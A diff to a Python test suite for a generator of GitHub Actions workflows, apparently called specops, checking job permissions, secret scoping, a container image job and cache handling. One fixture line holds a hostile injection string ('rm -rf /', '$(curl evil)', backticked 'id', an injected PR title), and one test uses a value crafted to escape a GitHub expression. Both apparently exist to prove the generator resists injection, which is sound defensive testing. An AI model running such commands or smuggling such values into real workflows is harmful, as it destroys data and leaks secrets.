@@ -51,6 +51,9 @@ OWN_EXPRESSIONS = {
     "${{ runner.temp }}",
     "${{ secrets.KUBE_CONFIG }}",
     "${{ secrets.MLFLOW_TRACKING_TOKEN }}",
+    "${{ secrets.WAREHOUSE_PASSWORD }}",
+    "${{ github.actor }}",  # the image job's registry login (ghcr.io)
+    "${{ secrets.GITHUB_TOKEN }}",
 }
 
 HOSTILE = ('"; rm -rf / # ${{ github.event.pull_request.title }} $(curl evil) `id`\n'
@@ -220,11 +223,12 @@ def test_permissions_timeouts_shell(docs: dict[str, dict[str, Any]]) -> None:
             assert "id-token" not in job["permissions"], (path, job_id)
 
 
-def test_only_the_plan_job_writes(docs: dict[str, dict[str, Any]]) -> None:
+def test_only_the_plan_and_image_jobs_write(docs: dict[str, dict[str, Any]]) -> None:
     writers = {(path, job_id) for path, doc in docs.items() for job_id, job in doc["jobs"].items()
                if "write" in job["permissions"].values()}
-    assert writers == {("specops-pr.yml", "plan")}
+    assert writers == {("specops-pr.yml", "plan"), ("specops-apply.yml", "images")}
     assert docs["specops-pr.yml"]["jobs"]["plan"]["permissions"] == {"contents": "read", "pull-requests": "write"}
+    assert docs["specops-apply.yml"]["jobs"]["images"]["permissions"] == {"contents": "read", "packages": "write"}
 
 
 def test_every_uses_is_pinned_with_a_version_comment(artifacts: dict[str, Artifact],
@@ -306,9 +310,10 @@ def test_apply_workflow(docs: dict[str, dict[str, Any]]) -> None:
     assert doc["on"]["workflow_dispatch"] == {}
     assert doc["concurrency"] == {"group": "specops-apply-${{ github.ref }}", "cancel-in-progress": False}
     jobs = doc["jobs"]
-    assert list(jobs) == ["apply-dev", "apply-prod"]
+    assert list(jobs) == ["images", "apply-dev", "apply-prod"]
     dev, prod = jobs["apply-dev"], jobs["apply-prod"]
-    assert "needs" not in dev and prod["needs"] == "apply-dev"
+    # prod's manifests name images: its apply waits for them; dev (laptop-only) names none
+    assert "needs" not in dev and prod["needs"] == ["apply-dev", "images"]
     assert "environment" not in dev  # dev has no required approval
     assert prod["environment"] == "prod"
     for job in (dev, prod):
@@ -317,19 +322,103 @@ def test_apply_workflow(docs: dict[str, dict[str, Any]]) -> None:
         run_step(job, "specops compile")
     assert "env" not in run_step(dev, "specops apply --env dev --yes")
     apply_prod = run_step(prod, "specops apply --env prod --yes")
-    # prod has a warehouse password, a remote MLflow server and a kube context
-    assert apply_prod["env"] == {"WAREHOUSE_PASSWORD": "${{ secrets.WAREHOUSE_PASSWORD }}",
-                                 "MLFLOW_TRACKING_TOKEN": "${{ secrets.MLFLOW_TRACKING_TOKEN }}",
+    # prod has a warehouse password (also its state backend's), an MLflow server token and a kube context
+    assert apply_prod["env"] == {"MLFLOW_TRACKING_TOKEN": "${{ secrets.MLFLOW_TRACKING_TOKEN }}",
+                                 "WAREHOUSE_PASSWORD": "${{ secrets.WAREHOUSE_PASSWORD }}",
                                  "KUBECONFIG": "${{ runner.temp }}/kubeconfig"}
     kubeconfig = run_step(prod, "umask 077")
     assert kubeconfig["env"] == {"KUBE_CONFIG": "${{ secrets.KUBE_CONFIG }}"}
     assert not any("kubeconfig" in json.dumps(s) for s in dev["steps"])  # dev has no kube context
     # secrets reach only the steps that need them, never checkout or pip install
     assert [s for s in prod["steps"] if "secrets." in json.dumps(s)] == [kubeconfig, apply_prod]
-    # the apply state is carried between runs in the Actions cache, saved even when apply fails
-    uses_ = [s.get("uses", "").split("@")[0] for s in prod["steps"]]
+    # prod keeps its state in postgres: no Actions cache; dev's local state is carried in the cache
+    assert not any("actions/cache" in s.get("uses", "") for s in prod["steps"])
+    uses_ = [s.get("uses", "").split("@")[0] for s in dev["steps"]]
     assert uses_.index("actions/cache/restore") < uses_.index("actions/cache/save")
-    assert prod["steps"][-1]["if"] == "always()"
+    assert dev["steps"][-1]["if"] == "always()"
+
+
+def test_image_job_builds_what_the_manifests_name(docs: dict[str, dict[str, Any]], churn: SpecProject) -> None:
+    from compiler.emit.images import dbt_image, train_image
+
+    job = docs["specops-apply.yml"]["jobs"]["images"]
+    steps = job["steps"]
+    uses_ = [s.get("uses", "").split("@")[0] for s in steps]
+    assert uses_.count("docker/login-action") == 1 and uses_.index("docker/setup-buildx-action") < uses_.index(
+        "docker/login-action")
+    login = steps[uses_.index("docker/login-action")]
+    assert login["with"] == {"registry": "ghcr.io", "username": "${{ github.actor }}",
+                             "password": "${{ secrets.GITHUB_TOKEN }}"}
+    built = {s["with"]["tags"]: s for s in steps if s.get("uses", "").startswith("docker/build-push-action")}
+    churn_model = churn.models["churn"]
+    # prod's retraining/drift jobs (training image) and dbt jobs (dbt image); its InferenceService pulls no image
+    assert set(built) == {train_image(churn, churn_model), dbt_image(churn)}
+    assert built[train_image(churn, churn_model)]["with"] == {
+        "context": "build/docker/churn", "file": "build/docker/churn/Dockerfile.train",
+        "tags": train_image(churn, churn_model), "push": True}
+    for step in built.values():  # an image the registry has (the same content) is not built again
+        assert step["if"].endswith(".outputs.exists != 'true'")
+    staged = [s for s in steps if s.get("name", "").startswith("Stage specops")]
+    assert [s["env"] for s in staged] == [{"CONTEXT": "build/docker/dbt", "REQUIREMENT": "specops==0.1.0"},
+                                          {"CONTEXT": "build/docker/churn", "REQUIREMENT": "specops==0.1.0"}]
+    # no other job logs in to a registry or may push packages
+    for path, doc in docs.items():
+        for job_id, other in doc["jobs"].items():
+            if (path, job_id) != ("specops-apply.yml", "images"):
+                assert "docker/login-action" not in json.dumps(other) and "packages" not in other["permissions"]
+
+
+def test_no_image_job_without_a_registry(churn: SpecProject) -> None:
+    project = dataclasses.replace(churn, project=dataclasses.replace(churn.project, image_registry=None))
+    doc = yaml.safe_load(next(a for a in emit(project) if a.path == "specops-apply.yml").content)
+    assert "images" not in doc["jobs"]
+
+
+def test_a_bigquery_key_is_written_to_a_file_at_run_time(churn: SpecProject) -> None:
+    prod = churn.environments["prod"]
+    bigquery = dataclasses.replace(prod, warehouse=Warehouse("bigquery", (("dataset", "d"), ("keyfile_env", "GCP_KEY"),
+                                                                         ("project", "p"))), state=None)
+    project = dataclasses.replace(churn, environments={**churn.environments, "prod": bigquery})
+    doc = yaml.safe_load(next(a for a in emit(project) if a.path == "specops-apply.yml").content)
+    step = run_step(doc["jobs"]["apply-prod"], "umask 077\nprintf")
+    assert step["env"]["GCP_KEY"] == "${{ secrets.GCP_KEY }}"
+    assert step["run"].splitlines() == ["umask 077", 'printf \'%s\' "${GCP_KEY}" > "${RUNNER_TEMP}/GCP_KEY.json"',
+                                        'GCP_KEY="${RUNNER_TEMP}/GCP_KEY.json"', "export GCP_KEY",
+                                        "specops apply --env prod --yes"]
+    # the specops extras bring the BigQuery client
+    assert doc["env"]["SPECOPS_PIP_SPEC"] == "specops[run,bigquery]==0.1.0"
+    # the script itself, run: the variable ends up holding the path of a file with the key
+    import tempfile
+
+    with tempfile.TemporaryDirectory() as tmp:
+        script = step["run"].replace("specops apply --env prod --yes", 'cat "${GCP_KEY}"; echo; stat -c %a "${GCP_KEY}"')
+        done = subprocess.run(["bash", "-c", script], env={"GCP_KEY": '{"type": "service_account"}',
+                                                          "RUNNER_TEMP": tmp, "PATH": os.environ["PATH"]},
+                              capture_output=True, text=True, check=True)
+        assert done.stdout.splitlines() == ['{"type": "service_account"}', "600"]
+
+
+def test_specops_comes_from_the_project_setting(churn: SpecProject) -> None:
+    from compiler.spec.ir import SpecopsSource
+
+    sources = {
+        None: ("specops==0.1.0", "specops[run]==0.1.0"),
+        SpecopsSource("version", "0.3.1"): ("specops==0.3.1", "specops[run]==0.3.1"),
+        SpecopsSource("git", "https://github.com/acme/specops.git", "a" * 40): (
+            f"specops @ git+https://github.com/acme/specops.git@{'a' * 40}",
+            f"specops[run] @ git+https://github.com/acme/specops.git@{'a' * 40}"),
+        SpecopsSource("wheel", "vendor/specops-0.1.0-py3-none-any.whl"): (
+            "./vendor/specops-0.1.0-py3-none-any.whl", "./vendor/specops-0.1.0-py3-none-any.whl[run]"),
+    }
+    for source, (pr, apply) in sources.items():
+        project = dataclasses.replace(churn, project=dataclasses.replace(churn.project, specops=source))
+        docs = {a.path: yaml.safe_load(a.content) for a in emit(project)}
+        assert docs["specops-pr.yml"]["env"]["SPECOPS_PIP_SPEC"] == pr
+        assert docs["specops-apply.yml"]["env"]["SPECOPS_PIP_SPEC"] == apply
+        assert docs["specops-retrain-churn.yml"]["env"]["SPECOPS_PIP_SPEC"] == apply
+        staged = {s["env"]["REQUIREMENT"] for s in docs["specops-apply.yml"]["jobs"]["images"]["steps"]
+                  if s.get("name", "").startswith("Stage specops")}
+        assert staged == {pr}
 
 
 def test_retrain_workflow(docs: dict[str, dict[str, Any]]) -> None:
@@ -353,11 +442,14 @@ def test_retrain_jobs_restore_and_save_the_state_apply_left(docs: dict[str, dict
     for env, job in docs["specops-retrain-churn.yml"]["jobs"].items():
         steps = job["steps"]
         uses_ = [s.get("uses", "").split("@")[0] for s in steps]
+        applied = apply_jobs[env.replace("train-", "apply-")]["steps"]
+        same = next((s for s in applied if s.get("uses", "").startswith("actions/cache/restore")), None)
+        if same is None:  # prod: state, warehouse and registry are all servers (postgres backend): nothing cached
+            assert "actions/cache/restore" not in uses_ and "actions/cache/save" not in uses_
+            continue
         train = next(i for i, s in enumerate(steps) if s.get("run", "").startswith("specops train"))
         restore, save = uses_.index("actions/cache/restore"), uses_.index("actions/cache/save")
         assert restore < train < save and steps[save]["if"] == "always()"
-        applied = apply_jobs[env.replace("train-", "apply-")]["steps"]
-        same = next(s for s in applied if s.get("uses", "").startswith("actions/cache/restore"))
         assert steps[restore]["with"] == same["with"]  # the same paths and keys as the apply job's
     dev = docs["specops-retrain-churn.yml"]["jobs"]["train-dev"]
     paths = next(s for s in dev["steps"] if s.get("uses", "").startswith("actions/cache/restore"))["with"]["path"]
@@ -394,8 +486,9 @@ def test_environment_order_follows_promotion_dev_to_production(churn: SpecProjec
     project = dataclasses.replace(churn, environments={**extra, **churn.environments})
     doc = yaml.safe_load(next(a for a in emit(project) if a.path == "specops-apply.yml").content)
     # dev first, unknown names next, staging before production
-    assert list(doc["jobs"]) == ["apply-dev", "apply-alpha", "apply-staging", "apply-prod"]
-    assert [job.get("needs") for job in doc["jobs"].values()] == [None, "apply-dev", "apply-alpha", "apply-staging"]
+    assert list(doc["jobs"]) == ["images", "apply-dev", "apply-alpha", "apply-staging", "apply-prod"]
+    assert [job.get("needs") for job in doc["jobs"].values()] == [
+        None, None, ["apply-dev", "images"], ["apply-alpha", "images"], ["apply-staging", "images"]]
 
 
 # --------------------------------------------------------------------------- helpers of the backend
@@ -435,13 +528,18 @@ def test_trigger_paths_of_a_root_spec_folder(churn: SpecProject) -> None:
 
 def test_secret_env_rechecks_names(churn: SpecProject) -> None:
     prod = churn.environments["prod"]
-    assert secret_env(prod) == {"WAREHOUSE_PASSWORD": "${{ secrets.WAREHOUSE_PASSWORD }}"}
+    assert secret_env(churn, prod, "apply") == {
+        "MLFLOW_TRACKING_TOKEN": "${{ secrets.MLFLOW_TRACKING_TOKEN }}",
+        "WAREHOUSE_PASSWORD": "${{ secrets.WAREHOUSE_PASSWORD }}",
+        "KUBECONFIG": "${{ runner.temp }}/kubeconfig"}
     bad = dataclasses.replace(prod, warehouse=Warehouse("bigquery", (("keyfile_env", "X }} ${{ github.token"),)))
     with pytest.raises(ValueError, match="environment variable"):
-        secret_env(bad)
-    bigquery = dataclasses.replace(prod, warehouse=Warehouse("bigquery", (("keyfile_env", "GCP_KEY"),)))
-    assert secret_env(bigquery) == {"GCP_KEY": "${{ secrets.GCP_KEY }}"}
-    assert secret_env(Environment(meta=prod.meta, loc=prod.loc)) == {}
+        secret_env(churn, bad, "apply")
+    bigquery = dataclasses.replace(prod, warehouse=Warehouse("bigquery", (("keyfile_env", "GCP_KEY"),)), state=None,
+                                   context=None)
+    assert secret_env(churn, bigquery, "train") == {"GCP_KEY": "${{ secrets.GCP_KEY }}",
+                                                    "MLFLOW_TRACKING_TOKEN": "${{ secrets.MLFLOW_TRACKING_TOKEN }}"}
+    assert secret_env(churn, Environment(meta=prod.meta, loc=prod.loc), "apply") == {}
 
 
 def test_annotate_adds_the_version_comment() -> None:
